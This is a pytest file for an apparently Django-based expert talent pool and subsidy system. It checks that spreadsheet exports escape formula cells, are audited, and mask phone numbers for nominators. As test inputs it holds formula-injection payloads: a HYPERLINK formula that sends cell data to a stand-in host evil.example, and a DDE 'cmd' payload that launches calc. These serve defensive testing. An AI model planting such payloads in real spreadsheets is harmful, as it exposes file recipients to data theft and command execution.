"""Issue 18 item 5 (exports) — the talent pool export goes through core.exports (audited, formula cells
escaped) and masks phone numbers for roles that do not contact the experts; the review-results and bank
exports escape formula cells too."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.enums import Role
from core.models import AuditEvent
from experts import services as expert_services
from subsidies.exports import batch_bank_export
from tests.factories.accounts import UserFactory, otp_login
from tests.factories.experts import make_nomination, nominator
from tests.factories.subsidies import BankAccountFactory, PaymentBatchFactory, PaymentFactory

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def test_talent_pool_export_is_audited_formula_safe_and_masks_phones_for_nominators(client):
    member = nominator()
    staff = UserFactory(roles=[Role.COMMISSION])
    nomination = make_nomination(by=member, name="赵储能", keywords=EVIL, phone="13812345678")
    expert_services.nomination_submit(nomination=nomination, by=member)
    expert_services.nomination_admit(nomination=nomination, by=staff, invite=False)

    otp_login(client, staff)
    rows = _rows(client.get(reverse("experts:expert-export")).content)
    header, row = rows[0], rows[1]
    assert row[header.index("关键词")] == "'" + EVIL
    assert row[header.index("手机号码")] == "13812345678"  # the commission contacts the experts
    assert AuditEvent.objects.filter(action="export.xlsx", actor=staff, summary__contains="人才库").exists()

    client.force_login(member)
    rows = _rows(client.get(reverse("experts:expert-export")).content)
    assert rows[1][rows[0].index("手机号码")] == "138****5678"
    assert AuditEvent.objects.filter(action="export.xlsx", actor=member).exists()


def test_bank_export_escapes_formula_cells():
    batch = PaymentBatchFactory()
    PaymentFactory(batch=batch, bank_account=BankAccountFactory(holder_name="@SUM(A1)", bank_name="+银行"),
                   purpose="-2+3")
    rows = _rows(batch_bank_export(batch))
    payee = rows[2]
    assert payee[1:4] == ("'@SUM(A1)", "'+银行", payee[3]) and payee[6] == "'-2+3"


def test_review_results_export_escapes_formula_cells(client):
    from tests.projects.review_steps import score_and_close
    from tests.projects.test_views import _login, _open_round

    round, project, staff = _open_round()
    project.title = "=cmd|' /C calc'!A0"
    project.save(update_fields=["title"])
    score_and_close(round, staff)
    _login(client, staff)
    response = client.get(reverse("projects:round-results", args=[round.pk, "xlsx"]))
    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws["B3"].value == "'=cmd|' /C calc'!A0"
